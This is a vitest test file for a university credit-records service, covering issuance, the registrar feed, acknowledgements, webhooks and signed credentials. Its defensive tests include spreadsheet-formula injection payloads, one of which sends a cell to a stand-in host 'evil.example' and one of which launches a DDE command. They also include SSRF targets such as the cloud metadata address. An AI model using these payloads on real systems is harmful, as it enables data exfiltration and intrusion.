import http from 'node:http'
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import path from 'node:path'
import { ed25519 } from '@noble/curves/ed25519.js'
import Database from 'libsql'
import { parse as parseCsv } from 'csv-parse/sync'
import request from 'supertest'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { CSV_COLUMNS, verifySignature } from '../../plugins/credits'
import { runJobs } from '../helpers/credits'
import { as, createCourse, createOrganization, createUser, login } from '../helpers/fixtures'
import { startTestApp, type TestApp } from '../helpers/testApp'

type Id = number | string
let t: TestApp
let uniA: Id
let uniB: Id
let enterprise: Id
let organizerToken: string
let adminToken: string
let registrarA: { token: string; apiKey: string }
let registrarB: { token: string; apiKey: string }

beforeAll(async () => {
  // The test receivers listen on 127.0.0.1; everything else internal stays refused.
  t = await startTestApp({ env: { WEBHOOK_ALLOWED_NETWORKS: '127.0.0.1/32' } })
  uniA = (await createOrganization(t.payload, 'university', '10486', '甲大学')).id
  uniB = (await createOrganization(t.payload, 'university', '10487', '乙大学')).id
  enterprise = (await createOrganization(t.payload, 'enterprise', '91441900MA51LP0011', '甲企业')).id
  const agency = (await createOrganization(t.payload, 'agency', '12441900MB2C000018')).id
  organizerToken = await login(t.app, (await createUser(t.payload, ['organizer'], agency)).email)
  adminToken = await login(t.app, (await createUser(t.payload, ['admin'], agency)).email)
  const a = await createUser(t.payload, ['registrar'], uniA, { enableAPIKey: true, apiKey: 'key-of-registrar-a' })
  const b = await createUser(t.payload, ['registrar'], uniB, { enableAPIKey: true, apiKey: 'key-of-registrar-b' })
  registrarA = { token: await login(t.app, a.email), apiKey: 'key-of-registrar-a' }
  registrarB = { token: await login(t.app, b.email), apiKey: 'key-of-registrar-b' }
})
afterAll(async () => t?.stop())

let studentSeq = 0
async function student(home: Id, extra: Record<string, unknown> = {}) {
  studentSeq++
  const user = await createUser(t.payload, ['student'], home, { homeUniversity: home, studentNumber: `2024${String(studentSeq).padStart(4, '0')}`, ...extra })
  return { ...user, token: await login(t.app, user.email) }
}

async function complete(learner: Id, course: Id, score = 88) {
  const res = await as(t.app, organizerToken).post('/api/completions').send({ learner, source: { relationTo: 'courses', value: course }, score, evidence: { modules: 3 } })
  expect(res.status, JSON.stringify(res.body)).toBe(201)
  return res.body.doc
}

async function recordsOf(learner: Id) {
  const { docs } = await t.payload.find({ collection: 'credit-records', where: { learner: { equals: learner } }, overrideAccess: true, depth: 0, sort: 'sequence' })
  return docs as Array<Record<string, any>>
}

async function issue(home: Id, courseExtra: Record<string, unknown> = {}, score = 88) {
  const s = await student(home)
  const course = await createCourse(t.payload, enterprise, { partners: [uniA], ...courseExtra })
  await complete(s.id, course.id, score)
  await runJobs(t.payload)
  const [record] = await recordsOf(s.id)
  return { student: s, course, record }
}

const feed = (auth: { token?: string; apiKey?: string }, query = '') => {
  const req = request(t.app).get(`/api/credit-feed${query}`).set('Accept-Language', 'en')
  return auth.apiKey ? req.set('Authorization', `users API-Key ${auth.apiKey}`) : req.set('Authorization', `JWT ${auth.token}`)
}

describe('issuing', () => {
  it('issues one record per completion, with a snapshot a registrar can use', async () => {
    const { student: s, course, record } = await issue(uniA, { credits: 2.5, hours: 40, grading: { scheme: 'five-level' } }, 85)
    expect(record).toMatchObject({
      status: 'issued',
      learnerName: expect.any(String),
      studentNumber: expect.stringMatching(/^2024/),
      homeUniversityName: '甲大学',
      homeUniversityCode: '10486',
      sourceType: 'courses',
      sourceTitle: course.title,
      sourceCode: course.code,
      issuingOrganizationName: '甲企业',
      partnerOrganizations: '甲大学',
      credits: 2.5,
      hours: 40,
      category: 'course',
      score: 85,
      grade: '良',
      passed: true,
      evidence: { modules: 3 },
    })
    expect(record.sequence).toBeGreaterThan(0)
    expect(record.learner).toBe(s.id)
  })

  it('issues nothing new when the same completion is attempted again', async () => {
    const { student: s, course } = await issue(uniA)
    const again = await as(t.app, organizerToken).post('/api/completions').send({ learner: s.id, source: { relationTo: 'courses', value: course.id }, score: 99 })
    expect(again.status).toBe(400)
    await runJobs(t.payload)
    expect(await recordsOf(s.id)).toHaveLength(1)
  })

  it('keeps the snapshot when the course changes later', async () => {
    const { course, record } = await issue(uniA)
    await t.payload.update({ collection: 'courses', id: course.id, data: { title: '改名后的课程', credits: 5 }, overrideAccess: true })
    const after = await t.payload.findByID({ collection: 'credit-records', id: record.id, overrideAccess: true })
    expect(after.sourceTitle).toBe(course.title)
    expect(after.credits).toBe(record.credits)
  })

  it('issues nothing for a source without credits', async () => {
    const s = await student(uniA)
    const course = await createCourse(t.payload, enterprise, { credits: 0 })
    await complete(s.id, course.id)
    await runJobs(t.payload)
    expect(await recordsOf(s.id)).toHaveLength(0)
  })

  it('gives concurrent completions distinct, increasing sequence numbers', async () => {
    const course = await createCourse(t.payload, enterprise)
    const learners = await Promise.all(Array.from({ length: 12 }, () => student(uniB)))
    await Promise.all(learners.map((l) => complete(l.id, course.id)))
    await runJobs(t.payload)
    const sequences = (await Promise.all(learners.map((l) => recordsOf(l.id)))).flat().map((r) => r.sequence)
    expect(sequences).toHaveLength(12)
    expect(new Set(sequences).size).toBe(12)
  })

  it('emails the learner when a record is issued', async () => {
    const { student: s } = await issue(uniA)
    const outbox = path.join(t.db.dataDir, 'outbox')
    const mails = existsSync(outbox) ? readdirSync(outbox).map((f) => readFileSync(path.join(outbox, f), 'utf8')) : []
    expect(mails.some((m) => m.includes(`To: ${s.email}`))).toBe(true)
  })
})

describe('append-only', () => {
  it('refuses edits of the snapshot, deletes and creates through the API', async () => {
    const { record } = await issue(uniA)
    const edit = await as(t.app, adminToken).patch(`/api/credit-records/${record.id}`).send({ credits: 10 })
    expect(edit.status).toBe(400)
    expect(JSON.stringify(edit.body)).toContain('append-only')
    const del = await as(t.app, adminToken).delete(`/api/credit-records/${record.id}`)
    expect(del.status).toBe(403)
    const create = await as(t.app, adminToken).post('/api/credit-records').send({ ...record, id: undefined, sequence: 99999, key: 'forged' })
    expect(create.status).toBe(403)
    const after = await t.payload.findByID({ collection: 'credit-records', id: record.id, overrideAccess: true })
    expect(after.credits).toBe(record.credits)
  })

  it('lets an administrator revoke with a reason, and says so on the status endpoint', async () => {
    const { record } = await issue(uniA)
    const noReason = await as(t.app, adminToken).patch(`/api/credit-records/${record.id}`).send({ status: 'revoked' })
    expect(noReason.status).toBe(400)
    const revoke = await as(t.app, adminToken).patch(`/api/credit-records/${record.id}`).send({ status: 'revoked', revocationReason: '成绩录入错误' })
    expect(revoke.status).toBe(200)
    const status = await request(t.app).get(`/api/credit-records/${record.id}/status`)
    expect(status.body).toMatchObject({ revoked: true, revocationReason: '成绩录入错误' })
    const ack = await as(t.app, registrarA.token).post(`/api/credit-records/${record.id}/acknowledge`).send({ decision: 'accepted' })
    expect(ack.status).toBe(409)
  })

  it('corrects by a new record that supersedes the old one', async () => {
    const { record } = await issue(uniA)
    const res = await as(t.app, adminToken).post(`/api/credit-records/${record.id}/correct`).send({ credits: 3, reason: '学分更正' })
    expect(res.status, JSON.stringify(res.body)).toBe(201)
    expect(res.body.doc.supersedes).toBe(record.id)
    expect(res.body.doc.credits).toBe(3)
    expect(res.body.doc.sequence).toBeGreaterThan(record.sequence)
    const old = await t.payload.findByID({ collection: 'credit-records', id: record.id, overrideAccess: true, depth: 0 })
    expect(old.supersededBy).toBe(res.body.doc.id)
    const twice = await as(t.app, adminToken).post(`/api/credit-records/${record.id}/correct`).send({ credits: 4, reason: '再次更正' })
    expect(twice.status).toBe(409)
    const bad = await as(t.app, adminToken).post(`/api/credit-records/${res.body.doc.id}/correct`).send({ credits: 1.3, reason: 'x' })
    expect(bad.status).toBe(400)
  })
})

describe('credit feed', () => {
  it('gives each registrar only their own university’s records, oldest first, by JWT or API key', async () => {
    const a = await issue(uniA)
    const b = await issue(uniB)
    for (const auth of [{ token: registrarA.token }, { apiKey: registrarA.apiKey }]) {
      const res = await feed(auth, '?limit=1000')
      expect(res.status).toBe(200)
      const ids = res.body.records.map((r: { id: Id }) => r.id)
      expect(ids).toContain(a.record.id)
      expect(ids).not.toContain(b.record.id)
      const sequences = res.body.records.map((r: { sequence: number }) => r.sequence)
      expect(sequences).toEqual([...sequences].sort((x, y) => x - y))
      expect(res.body.records.every((r: any) => r.learner.homeUniversity.code === '10486')).toBe(true)
    }
    const other = await feed({ apiKey: registrarB.apiKey }, '?limit=1000')
    expect(other.body.records.map((r: { id: Id }) => r.id)).toContain(b.record.id)
    expect(other.body.records.map((r: { id: Id }) => r.id)).not.toContain(a.record.id)
  })

  it('sends each value as the record holds it: exact numbers, booleans, dates and evidence', async () => {
    // 265/3 has no short decimal form; SQLite's own JSON would round it to 15 digits.
    const { record } = await issue(uniA, { credits: 1.5, hours: 24.5 }, 265 / 3)
    const res = await feed({ token: registrarA.token }, '?limit=1000')
    const sent = res.body.records.find((r: { id: Id }) => r.id === record.id)
    expect(sent).toMatchObject({
      sequence: record.sequence,
      credits: 1.5,
      hours: 24.5,
      score: 265 / 3,
      passed: true,
      completedAt: record.completedAt,
      issuedAt: record.issuedAt,
      evidence: record.evidence,
    })
    expect(typeof sent.sequence).toBe('number')
  })

  it('marks pulled records delivered', async () => {
    const { record } = await issue(uniA)
    await feed({ token: registrarA.token }, '?limit=1000')
    const after = await t.payload.findByID({ collection: 'credit-records', id: record.id, overrideAccess: true })
    expect(after.status).toBe('delivered')
    expect(after.deliveredAt).toBeTruthy()
  })

  // SQLite only: there a competing writer makes marking fail after the busy timeout (5 s); a
  // PostgreSQL UPDATE would wait for the lock without end.
  it.skipIf(!!process.env.TEST_POSTGRES_URL)('fails the pull, and marks nothing, when marking cannot commit', async () => {
    const { record } = await issue(uniA)
    const blocker = new Database(t.db.uri.slice('file:'.length))
    blocker.exec('BEGIN IMMEDIATE')
    try {
      const csv = await feed({ token: registrarA.token }, '?limit=1000').set('Accept', 'text/csv')
      expect(csv.status).toBe(500)
      const json = await feed({ token: registrarA.token }, '?limit=1000').then(
        (res) => res.status,
        (error: Error) => error.message,
      )
      // The status line had gone out before the marking failed: the body is cut short instead.
      expect(String(json)).toMatch(/aborted|socket hang up|ECONNRESET|Unexpected end/i)
    } finally {
      blocker.exec('ROLLBACK')
      blocker.close()
    }
    const after = await t.payload.findByID({ collection: 'credit-records', id: record.id, overrideAccess: true })
    expect(after.status).toBe('issued')
  }, 20_000)

  it('neither skips nor repeats records inserted while a registrar pages through', async () => {
    // Start from the end of what is there now.
    let res = await feed({ token: registrarA.token }, '?limit=1000')
    while (res.body.hasMore) res = await feed({ token: registrarA.token }, `?limit=1000&since=${encodeURIComponent(res.body.nextCursor)}`)
    let cursor = res.body.nextCursor as string
    const expected: Id[] = []
    for (let i = 0; i < 5; i++) expected.push((await issue(uniA)).record.id)
    const seen: Id[] = []
    for (let page = 0; page < 20; page++) {
      const r = await feed({ token: registrarA.token }, `?limit=2&since=${encodeURIComponent(cursor)}`)
      expect(r.status).toBe(200)
      seen.push(...r.body.records.map((x: { id: Id }) => x.id))
      cursor = r.body.nextCursor
      // New records arrive between pages.
      if (page < 3) expected.push((await issue(uniA)).record.id)
      if (!r.body.hasMore && page >= 3) break
    }
    expect(seen).toEqual(expected)
  })

  it('applies the university’s course mapping', async () => {
    const course = await createCourse(t.payload, enterprise, { credits: 2 })
    const mapping = await as(t.app, registrarA.token).post('/api/course-mappings').send({ course: course.id, localCourseCode: 'GS-0801', creditFactor: 1.5 })
    expect(mapping.status, JSON.stringify(mapping.body)).toBe(201)
    const s = await student(uniA)
    await complete(s.id, course.id)
    await runJobs(t.payload)
    const res = await feed({ token: registrarA.token }, '?limit=1000')
    const mine = res.body.records.find((r: any) => r.learner.id === s.id)
    expect(mine.mapping).toEqual({ localCourseCode: 'GS-0801', creditFactor: 1.5, localCredits: 3 })
    const foreign = await as(t.app, registrarA.token).post('/api/course-mappings').send({ university: uniB, course: course.id, localCourseCode: 'X', creditFactor: 1 })
    expect(foreign.status).toBe(403)
  })

  it('answers `format=csv` as `Accept: text/csv`, as an attachment (the portal’s download link)', async () => {
    await issue(uniA)
    const res = await feed({ token: registrarA.token }, '?limit=1000&format=csv')
    expect(res.status).toBe(200)
    expect(res.headers['content-type']).toMatch(/^text\/csv/)
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="credit-feed-\d+\.csv"$/)
  })

  it('returns CSV with a BOM and the documented columns', async () => {
    await issue(uniA)
    const res = await feed({ token: registrarA.token }, '?limit=1000').set('Accept', 'text/csv').buffer(true).parse((r, cb) => {
      const chunks: Buffer[] = []
      r.on('data', (c: Buffer) => chunks.push(c))
      r.on('end', () => cb(null, Buffer.concat(chunks)))
    })
    expect(res.status).toBe(200)
    expect(res.headers['content-type']).toMatch(/text\/csv/)
    const body = res.body as Buffer
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const lines = body.toString('utf8').slice(1).trim().split(/\r?\n/)
    expect(lines[0]).toBe(CSV_COLUMNS.join(','))
    expect(lines.length).toBeGreaterThan(1)
    expect(body.toString('utf8')).toContain('甲大学')
    expect(res.headers['x-next-cursor']).toBeTruthy()
    expect(res.headers['x-has-more']).toMatch(/true|false/)
  })

  it('neutralises spreadsheet formulas in CSV text cells, keeps numbers numeric, and leaves the JSON feed as it is', async () => {
    // What a learner, an author, an organisation or a registrar could type, one per formula start.
    const typed = {
      learnerName: '=HYPERLINK("http://evil.example/?"&A1,"点击")',
      studentNumber: '-1+2024',
      title: '+SUM(1,2)',
      titleEn: '@cmd|" /C calc"!A0',
      issuer: '\r=1+1',
      localCourseCode: '\t=cmd',
    }
    const issuer = (await createOrganization(t.payload, 'enterprise', '91441900MA51LP0033', typed.issuer)).id
    const course = await createCourse(t.payload, issuer, { title: typed.title, titleEn: typed.titleEn, credits: 2, hours: 32, partners: [uniA] })
    const mapping = await as(t.app, registrarA.token).post('/api/course-mappings').send({ course: course.id, localCourseCode: typed.localCourseCode, creditFactor: 1.5 })
    expect(mapping.status, JSON.stringify(mapping.body)).toBe(201)
    const s = await student(uniA, { name: typed.learnerName, studentNumber: typed.studentNumber })
    await complete(s.id, course.id, 88)
    await runJobs(t.payload)
    const [record] = await recordsOf(s.id)

    const res = await feed({ token: registrarA.token }, '?limit=1000').set('Accept', 'text/csv').buffer(true).parse((r, cb) => {
      let text = ''
      r.on('data', (c: Buffer) => (text += c))
      r.on('end', () => cb(null, text))
    })
    expect(res.status).toBe(200)
    const rows = parseCsv(res.body as string, { bom: true, columns: true }) as Array<Record<string, string>>
    const row = rows.find((r) => r.record_id === String(record.id))
    expect(row).toMatchObject({
      learner_name: `'${typed.learnerName}`,
      student_number: `'${typed.studentNumber}`,
      source_title: `'${typed.title}`,
      source_title_en: `'${typed.titleEn}`,
      issuing_organization: `'${typed.issuer}`,
      local_course_code: `'${typed.localCourseCode}`,
      // Numbers stay numbers.
      sequence: String(record.sequence),
      credits: '2',
      hours: '32',
      score: '88',
      local_credits: '3',
    })
    for (const r of rows) for (const value of Object.values(r)) expect(value).not.toMatch(/^[=+\-@\t\r]/)

    // JSON is not a spreadsheet: the feed sends what was typed.
    const json = await feed({ token: registrarA.token }, '?limit=1000')
    const sent = json.body.records.find((r: { id: Id }) => r.id === record.id)
    expect(sent.learner).toMatchObject({ name: typed.learnerName, studentNumber: typed.studentNumber })
    expect(sent.source).toMatchObject({ title: typed.title, titleEn: typed.titleEn, issuingOrganization: { name: typed.issuer } })
    expect(sent.mapping).toEqual({ localCourseCode: typed.localCourseCode, creditFactor: 1.5, localCredits: 3 })
  })

  it.each([
    ['a forged cursor', '?since=eyJ1IjoiMSIsInMiOjF9.AAAAAAAAAAAAAAAAAAAAAA', /not one this server issued/],
    ['a malformed cursor', '?since=garbage', /malformed/],
    ['limit 0', '?limit=0', /limit/],
    ['limit 1001', '?limit=1001', /limit/],
    ['limit abc', '?limit=abc', /limit/],
  ])('refuses %s with 400', async (_label, query, message) => {
    const res = await feed({ token: registrarA.token }, query)
    expect(res.status).toBe(400)
    expect(res.body.errors[0].message).toMatch(message)
  })

  it('refuses another university’s cursor, and changes nothing', async () => {
    await issue(uniB)
    const fromB = await feed({ apiKey: registrarB.apiKey }, '?limit=1')
    const before = await t.payload.count({ collection: 'credit-records', where: { status: { equals: 'issued' } }, overrideAccess: true })
    const res = await feed({ apiKey: registrarA.apiKey }, `?since=${encodeURIComponent(fromB.body.nextCursor)}`)
    expect(res.status).toBe(400)
    expect(res.body.errors[0].message).toMatch(/another university/)
    const after = await t.payload.count({ collection: 'credit-records', where: { status: { equals: 'issued' } }, overrideAccess: true })
    expect(after.totalDocs).toBe(before.totalDocs)
  })

  it('refuses non-registrars and anonymous callers', async () => {
    const s = await student(uniA)
    expect((await feed({ token: s.token })).status).toBe(403)
    expect((await request(t.app).get('/api/credit-feed')).status).toBe(401)
    expect((await feed({ apiKey: 'not-a-key' })).status).toBe(401)
  })
})

describe('acknowledgement', () => {
  it('accepts, repeats harmlessly, and refuses a contradiction with 409', async () => {
    const { record } = await issue(uniA)
    const ok = await as(t.app, registrarA.token).post(`/api/credit-records/${record.id}/acknowledge`).send({ decision: 'accepted', localCourseCode: 'GS-1', reason: '符合培养方案' })
    expect(ok.status, JSON.stringify(ok.body)).toBe(200)
    expect(ok.body.doc).toMatchObject({ status: 'accepted', localCourseCode: 'GS-1', decisionReason: '符合培养方案' })
    const again = await as(t.app, registrarA.token).post(`/api/credit-records/${record.id}/acknowledge`).send({ decision: 'accepted', reason: '另一个理由' })
    expect(again.status).toBe(200)
    expect(again.body.doc.decisionReason).toBe('符合培养方案')
    const contradiction = await as(t.app, registrarA.token).post(`/api/credit-records/${record.id}/acknowledge`).send({ decision: 'rejected' })
    expect(contradiction.status).toBe(409)
    const after = await t.payload.findByID({ collection: 'credit-records', id: record.id, overrideAccess: true })
    expect(after.status).toBe('accepted')
  })

  it('gives an acceptance without a local course code the one of the university’s course mapping', async () => {
    const mapped = await issue(uniA)
    const other = await issue(uniA, {}, 90)
    await as(t.app, registrarA.token).post('/api/course-mappings').send({ course: mapped.course.id, localCourseCode: 'GS-MAP-1', creditFactor: 1 }).expect(201)
    await as(t.app, registrarA.token).post('/api/course-mappings').send({ course: other.course.id, localCourseCode: 'GS-MAP-2', creditFactor: 1 }).expect(201)
    const unmapped = await issue(uniA)
    // One bulk acceptance, as the portal's registrar page sends it: each record gets its own course's code.
    const bulk = await as(t.app, registrarA.token)
      .patch(`/api/credit-records?${new URLSearchParams({ 'where[id][in]': [mapped.record.id, other.record.id, unmapped.record.id].join(',') })}`)
      .send({ status: 'accepted' })
    expect(bulk.status, JSON.stringify(bulk.body)).toBe(200)
    const codes = new Map((bulk.body.docs as Array<{ id: Id; localCourseCode?: string | null }>).map((d) => [String(d.id), d.localCourseCode ?? null]))
    expect(codes).toEqual(new Map([[String(mapped.record.id), 'GS-MAP-1'], [String(other.record.id), 'GS-MAP-2'], [String(unmapped.record.id), null]]))
    // A code the registrar gives wins over the mapping's.
    const given = await issue(uniA)
    await as(t.app, registrarA.token).post('/api/course-mappings').send({ course: given.course.id, localCourseCode: 'GS-MAP-3', creditFactor: 1 }).expect(201)
    const ok = await as(t.app, registrarA.token).post(`/api/credit-records/${given.record.id}/acknowledge`).send({ decision: 'accepted', localCourseCode: 'GS-HAND' })
    expect(ok.body.doc.localCourseCode).toBe('GS-HAND')
  })

  it('refuses a rejection without a reason with 400, and keeps the reason it is given', async () => {
    const { record } = await issue(uniA)
    for (const reason of [undefined, '', '   ']) {
      const bare = await as(t.app, registrarA.token).post(`/api/credit-records/${record.id}/acknowledge`).send({ decision: 'rejected', ...(reason === undefined ? {} : { reason }) })
      expect(bare.status, JSON.stringify(bare.body)).toBe(400)
      expect(JSON.stringify(bare.body)).toMatch(/不认定须填写原因|a rejection needs a reason/)
    }
    expect((await t.payload.findByID({ collection: 'credit-records', id: record.id, overrideAccess: true })).status).not.toBe('rejected')
    const rejected = await as(t.app, registrarA.token).post(`/api/credit-records/${record.id}/acknowledge`).send({ decision: 'rejected', reason: '与本校培养方案不符' })
    expect(rejected.status, JSON.stringify(rejected.body)).toBe(200)
    expect(rejected.body.doc).toMatchObject({ status: 'rejected', decisionReason: '与本校培养方案不符' })
  })

  it('refuses another university’s registrar, a student, and a decision that is not one of the two words', async () => {
    const { record, student: s } = await issue(uniA)
    const foreign = await as(t.app, registrarB.token).post(`/api/credit-records/${record.id}/acknowledge`).send({ decision: 'accepted' })
    expect(foreign.status).toBe(403)
    const byStudent = await as(t.app, s.token).post(`/api/credit-records/${record.id}/acknowledge`).send({ decision: 'accepted' })
    expect(byStudent.status).toBe(403)
    const maybe = await as(t.app, registrarA.token).post(`/api/credit-records/${record.id}/acknowledge`).send({ decision: 'maybe' })
    expect(maybe.status).toBe(400)
    expect(maybe.body.errors[0].message).toMatch(/accepted.*rejected/)
    const extra = await as(t.app, registrarA.token).post(`/api/credit-records/${record.id}/acknowledge`).send({ decision: 'accepted', credits: 9 })
    expect(extra.status).toBe(400)
    const missing = await as(t.app, registrarA.token).post('/api/credit-records/999999/acknowledge').send({ decision: 'accepted' })
    expect(missing.status).toBe(404)
    const after = await t.payload.findByID({ collection: 'credit-records', id: record.id, overrideAccess: true })
    expect(after.status).toBe('issued')
  })

  it('lets a registrar bulk-accept their own records through the REST bulk update the admin panel uses', async () => {
    const one = await issue(uniA)
    const two = await issue(uniA)
    const foreign = await issue(uniB)
    const ids = [one.record.id, two.record.id, foreign.record.id]
    const res = await as(t.app, registrarA.token).patch(`/api/credit-records?${ids.map((id, i) => `where[id][in][${i}]=${id}`).join('&')}`).send({ status: 'accepted' })
    expect(res.status, JSON.stringify(res.body)).toBe(200)
    const statuses = await Promise.all(ids.map(async (id) => (await t.payload.findByID({ collection: 'credit-records', id, overrideAccess: true })).status))
    expect(statuses).toEqual(['accepted', 'accepted', 'issued'])
  })
})

describe('webhooks', () => {
  it('POSTs each new record signed, and retries after a failure', async () => {
    const secret = 'a-webhook-secret-of-some-length'
    const received: Array<{ valid: boolean; body: any }> = []
    let calls = 0
    const server = http.createServer((req, res) => {
      let body = ''
      req.on('data', (c) => (body += c))
      req.on('end', () => {
        calls++
        received.push({ valid: verifySignature(secret, body, String(req.headers['x-lianpei-signature'])), body: JSON.parse(body) })
        res.statusCode = calls === 1 ? 500 : 204
        res.end()
      })
    })
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r))
    const url = `http://127.0.0.1:${(server.address() as { port: number }).port}/lianpei`
    try {
      const hook = await as(t.app, registrarB.token).post('/api/credit-webhooks').send({ url, secret })
      expect(hook.status, JSON.stringify(hook.body)).toBe(201)
      const { record } = await issue(uniB)
      expect(calls).toBe(1)
      await new Promise((r) => setTimeout(r, 2500))
      await runJobs(t.payload)
      expect(calls).toBe(2)
      expect(received.every((r) => r.valid)).toBe(true)
      expect(received[1].body.record.id).toBe(record.id)
      // The receiver gets the record's place in its university's chain, as the feed sends it.
      expect(received[1].body.record).toMatchObject({ previousHash: record.previousHash, hash: record.hash })
      expect(record.hash).toMatch(/^[A-Za-z0-9_-]{43}$/)
      const { docs } = await t.payload.find({ collection: 'credit-webhook-deliveries', where: { record: { equals: record.id } }, sort: 'attempt', overrideAccess: true, depth: 0 })
      expect(docs.map((d) => [d.attempt, d.succeeded, d.httpStatus])).toEqual([[1, false, 500], [2, true, 204]])
    } finally {
      server.close()
    }
  })

  it('does not follow a redirect, to an internal address or anywhere, and keeps no answer body', async () => {
    const uni = (await createOrganization(t.payload, 'university', '10488', '丙大学')).id
    const registrar = await login(t.app, (await createUser(t.payload, ['registrar'], uni)).email)
    // The internal target: loopback, but not the allowed 127.0.0.1.
    let stolen = 0
    const internal = http.createServer((req, res) => {
      stolen++
      res.end('internal secret')
    })
    await new Promise<void>((r) => internal.listen(0, '127.0.0.2', r))
    const target = `http://127.0.0.2:${(internal.address() as { port: number }).port}/admin`
    const redirecting = http.createServer((req, res) => {
      req.resume()
      req.on('end', () => {
        res.writeHead(307, { location: target, 'content-type': 'text/plain' })
        res.end('BODY-THAT-MUST-NOT-BE-KEPT')
      })
    })
    await new Promise<void>((r) => redirecting.listen(0, '127.0.0.1', r))
    try {
      const hook = await as(t.app, registrar).post('/api/credit-webhooks').send({ url: `http://127.0.0.1:${(redirecting.address() as { port: number }).port}/hook`, secret: 'x'.repeat(20) })
      expect(hook.status, JSON.stringify(hook.body)).toBe(201)
      const { record } = await issue(uni)
      expect(stolen).toBe(0)
      const { docs } = await t.payload.find({ collection: 'credit-webhook-deliveries', where: { record: { equals: record.id } }, overrideAccess: true, depth: 0 })
      expect(docs).toHaveLength(1)
      expect(docs[0]).toMatchObject({ succeeded: false, httpStatus: 307 })
      expect(docs[0].error).toMatch(/redirect.*not follow/)
      expect(JSON.stringify(docs)).not.toMatch(/BODY-THAT-MUST-NOT-BE-KEPT|internal secret|127\.0\.0\.2/)
    } finally {
      redirecting.close()
      internal.close()
    }
  })

  it.each([
    ['loopback outside the allowed network', 'http://127.0.0.2/hook'],
    ['IPv6 loopback', 'http://[::1]:8080/hook'],
    ['cloud metadata', 'http://169.254.169.254/latest/meta-data/'],
    ['a private network', 'http://10.0.0.7/hook'],
    ['metadata inside an IPv4-mapped IPv6 address', 'http://[::ffff:169.254.169.254]/'],
  ])('refuses %s at registration, though 127.0.0.1/32 is allowed', async (_label, url) => {
    const before = (await t.payload.count({ collection: 'credit-webhooks', overrideAccess: true })).totalDocs
    const res = await as(t.app, registrarA.token).post('/api/credit-webhooks').send({ url, secret: 'x'.repeat(20) })
    expect(res.status).toBe(400)
    expect(JSON.stringify(res.body)).toMatch(/internal address, which webhooks may not reach/)
    expect((await t.payload.count({ collection: 'credit-webhooks', overrideAccess: true })).totalDocs).toBe(before)
  })

  it('refuses a webhook with a bad URL or for another university', async () => {
    const bad = await as(t.app, registrarA.token).post('/api/credit-webhooks').send({ url: 'not a url', secret: 'x'.repeat(20) })
    expect(bad.status).toBe(400)
    const foreign = await as(t.app, registrarA.token).post('/api/credit-webhooks').send({ url: 'https://example.edu.cn/hook', secret: 'x'.repeat(20), university: uniB })
    expect(foreign.status).toBe(403)
  })
})

describe('verifiable credentials', () => {
  const decode = (part: string) => JSON.parse(Buffer.from(part, 'base64url').toString('utf8'))
  async function verifyWithJwks(jwt: string) {
    const [h, p, s] = jwt.split('.')
    const header = decode(h)
    const jwks = (await request(t.app).get('/.well-known/jwks.json')).body
    const jwk = jwks.keys.find((k: { kid: string }) => k.kid === header.kid)
    if (!jwk) return false
    // @noble/curves, a pure-JavaScript Ed25519, not jose and the OpenSSL under it that signed:
    // an independent check of the EdDSA signature against the published key.
    if (jwk.kty !== 'OKP' || jwk.crv !== 'Ed25519') return false
    return ed25519.verify(Buffer.from(s, 'base64url'), Buffer.from(`${h}.${p}`), Buffer.from(jwk.x, 'base64url'))
  }

  it('gives the learner an Open Badges 3.0 credential signed with EdDSA that verifies against the JWKS', async () => {
    const { record, student: s, course } = await issue(uniA, { credits: 3 }, 91)
    const res = await request(t.app).get(`/api/credit-records/${record.id}/credential`).set('Authorization', `JWT ${s.token}`).buffer(true).parse((r, cb) => {
      let text = ''
      r.on('data', (c: Buffer) => (text += c))
      r.on('end', () => cb(null, text))
    })
    expect(res.status).toBe(200)
    expect(res.headers['content-type']).toMatch(/application\/vc\+jwt/)
    const jwt = res.body as string
    expect(await verifyWithJwks(jwt)).toBe(true)
    const [h, p] = jwt.split('.')
    expect(decode(h)).toMatchObject({ alg: 'EdDSA', kid: expect.any(String) })
    const claims = decode(p)
    expect(claims).toMatchObject({ iss: expect.stringContaining('/issuer'), sub: expect.stringContaining('/learners/'), jti: expect.stringContaining(`/credit-records/${record.id}`), nbf: expect.any(Number) })
    expect(claims.vc['@context']).toEqual(['https://www.w3.org/ns/credentials/v2', 'https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.3.json'])
    expect(claims.vc.type).toContain('OpenBadgeCredential')
    expect(claims.vc.credentialSubject.achievement).toMatchObject({ name: course.title, creditsAvailable: 3 })
    expect(claims.vc.credentialSubject.creditsEarned).toBe(3)
    expect(claims.vc.credentialSubject.result[0].value).toBe('91')
    expect(claims.vc.credentialStatus).toMatchObject({ type: 'BitstringStatusListEntry', statusPurpose: 'revocation', statusListIndex: String(record.sequence) })

    const [, , sig] = jwt.split('.')
    const tamperedClaims = Buffer.from(JSON.stringify({ ...claims, vc: { ...claims.vc, credentialSubject: { ...claims.vc.credentialSubject, creditsEarned: 30 } } })).toString('base64url')
    expect(await verifyWithJwks(`${h}.${tamperedClaims}.${sig}`)).toBe(false)
  })

  it('lets the learner’s registrar fetch it, and nobody else', async () => {
    const { record } = await issue(uniA)
    const other = await student(uniA)
    expect((await request(t.app).get(`/api/credit-records/${record.id}/credential`).set('Authorization', `JWT ${registrarA.token}`)).status).toBe(200)
    expect((await request(t.app).get(`/api/credit-records/${record.id}/credential`).set('Authorization', `JWT ${registrarB.token}`)).status).toBe(404)
    expect((await request(t.app).get(`/api/credit-records/${record.id}/credential`).set('Authorization', `JWT ${other.token}`)).status).toBe(404)
    expect((await request(t.app).get(`/api/credit-records/${record.id}/credential`)).status).toBe(401)
  })

  it('bundles a learner’s records into a signed CLR 2.0 transcript', async () => {
    const s = await student(uniA)
    for (let i = 0; i < 2; i++) await complete(s.id, (await createCourse(t.payload, enterprise)).id)
    await runJobs(t.payload)
    const res = await request(t.app).get('/api/credit-records/transcript').set('Authorization', `JWT ${s.token}`).buffer(true).parse((r, cb) => {
      let text = ''
      r.on('data', (c: Buffer) => (text += c))
      r.on('end', () => cb(null, text))
    })
    expect(res.status).toBe(200)
    expect(await verifyWithJwks(res.body)).toBe(true)
    const claims = decode(res.body.split('.')[1])
    expect(claims.vc.type).toContain('ClrCredential')
    expect(claims.vc.credentialSubject.verifiableCredential).toHaveLength(2)
  })
})
